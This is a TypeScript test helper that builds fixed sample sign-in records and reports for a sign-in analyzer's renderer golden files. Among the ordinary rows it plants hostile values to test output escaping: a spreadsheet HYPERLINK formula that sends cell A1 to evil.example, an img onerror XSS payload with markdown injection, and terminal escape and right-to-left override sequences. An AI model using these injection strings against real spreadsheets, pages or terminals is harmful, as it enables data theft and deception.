// Test helper: a small, fixed set of sign-ins with ordinary and hostile values, and the report built from
// it, for the renderer golden files.

import { limitReport, type Report } from '../../src/analyze/index.js';
import { buildView, limitView, type ReportView } from '../../src/view/index.js';
import type { SignIn } from '../../src/model.js';
import { analyzeSignIns, coverageFor, makeSignIn } from './signins.js';

const HOSTILE_USER = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
const MARKDOWN_USER = 'mallory|<img src=x onerror=alert(1)>*bold*_it_`code`[link](http://evil.example)@team #1 www.evil.example';
const TERMINAL_APP = 'Evil\u001b[31mRed\u001b[0m\u0007App\u202eexe.txt';
const LONG_APP = `Very long application name ${'x'.repeat(200)}`;

function sampleSignIns(): SignIn[] {
  const at = (day: number, hour: number): Date => new Date(Date.UTC(2026, 10, 9 + day, hour, 15, 0));
  const rows: Partial<SignIn>[] = [
    { time: at(0, 8), userPrincipalName: 'alice@contoso.example', errorCode: 0, sourceStatus: 'Success' },
    { time: at(0, 9), userPrincipalName: 'alice@contoso.example', errorCode: 50126, failureReason: 'Invalid username or password.' },
    {
      time: at(0, 9),
      userPrincipalName: 'alice@contoso.example',
      errorCode: 50126,
      failureReason: 'Invalid username or password.',
      clientApp: 'IMAP4',
      ipAddress: '203.0.113.9',
    },
    {
      time: at(0, 10),
      userPrincipalName: 'bob@contoso.example',
      errorCode: 50126,
      failureReason: 'Invalid username or password.',
      ipAddress: '203.0.113.9',
      country: 'RU',
    },
    {
      time: at(1, 7),
      userPrincipalName: 'bob@contoso.example',
      errorCode: 50053,
      failureReason: 'Account is locked.',
      ipAddress: '203.0.113.9',
      country: 'RU',
    },
    { time: at(1, 7), userPrincipalName: 'carol@contoso.example', errorCode: 50074, sourceStatus: 'Interrupted', appName: 'Microsoft Teams' },
    { time: at(1, 8), userPrincipalName: 'carol@contoso.example', errorCode: 0, appName: 'Microsoft Teams' },
    {
      time: at(1, 11),
      userPrincipalName: 'carol@contoso.example',
      errorCode: 53003,
      failureReason: 'Blocked by Conditional Access.',
      appName: 'Microsoft Teams',
      clientApp: 'Exchange ActiveSync',
    },
    {
      time: at(2, 3),
      userPrincipalName: '',
      userDisplayName: '',
      servicePrincipalName: 'nightly-backup',
      signInType: 'serviceprincipal',
      appName: 'nightly-backup',
      errorCode: 700016,
      failureReason: 'Application not found in the directory.',
    },
    {
      time: at(2, 4),
      userPrincipalName: HOSTILE_USER,
      errorCode: 88888801,
      sourceStatus: 'Failure',
      failureReason: 'Strange\nmulti-line\treason =1+2 <b>bold</b>',
      appName: TERMINAL_APP,
    },
    {
      time: at(2, 5),
      userPrincipalName: MARKDOWN_USER,
      errorCode: 88888801,
      sourceStatus: 'Failure',
      failureReason: 'Strange\nmulti-line\treason =1+2 <b>bold</b>',
      appName: LONG_APP,
    },
    {
      time: at(2, 6),
      userPrincipalName: 'dave@contoso.example',
      errorCode: 88888802,
      sourceStatus: 'Interrupted',
      failureReason: '',
      country: '',
      ipAddress: '',
    },
    { time: at(3, 12), userPrincipalName: 'erin@contoso.example', errorCode: 0, signInType: 'noninteractive', clientApp: 'Mobile Apps and Desktop clients' },
  ];
  return rows.map((row, i) => makeSignIn({ line: i + 2, ...row }));
}

export function sampleReport(top = 0): Report {
  return limitReport(analyzeSignIns(sampleSignIns()).report, top);
}

/** A report as a view of its own: no period, comparison or thresholds; coverage of one input holding `signIns`. */
export function viewOf(report: Report, top = 0, signIns: readonly SignIn[] = []): ReportView {
  return limitView(buildView({ report, coverage: coverageFor(signIns), period: null, previous: null, baseline: null, rules: [] }), top);
}

/** The sample report's view, cut to `top` rows per list. */
export function sampleView(top = 0): ReportView {
  const signIns = sampleSignIns();
  return viewOf(analyzeSignIns(signIns).report, top, signIns);
}
